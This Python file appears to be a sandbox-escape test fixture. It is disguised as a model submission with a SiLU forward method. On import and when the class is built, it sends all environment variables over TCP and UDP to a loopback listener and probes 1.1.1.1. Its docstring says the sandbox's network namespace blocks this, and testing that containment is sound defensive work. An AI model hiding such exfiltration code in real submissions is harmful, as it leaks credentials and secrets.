"""Attack: send what it can find to a listener on the server's loopback (TCP and UDP), as it
would to any host.

Stopped by: the network namespace. The sandbox has a loopback of its own and no other interface:
the server's 127.0.0.1 is not reachable from it, nor is any other address.
"""

import os
import socket

import torch
import torch.nn as nn

T = __TARGETS__


def attack() -> None:
    payload = ("exfil " + repr(dict(os.environ))).encode()
    try:
        with socket.create_connection(("127.0.0.1", T["port"]), timeout=2) as s:
            s.sendall(payload)
    except OSError:
        pass
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(payload, ("127.0.0.1", T["port"]))
        s.close()
    except OSError:
        pass
    try:
        socket.create_connection(("1.1.1.1", 443), timeout=2).close()
    except OSError:
        pass


attack()


class ModelNew(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        attack()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * torch.sigmoid(x)
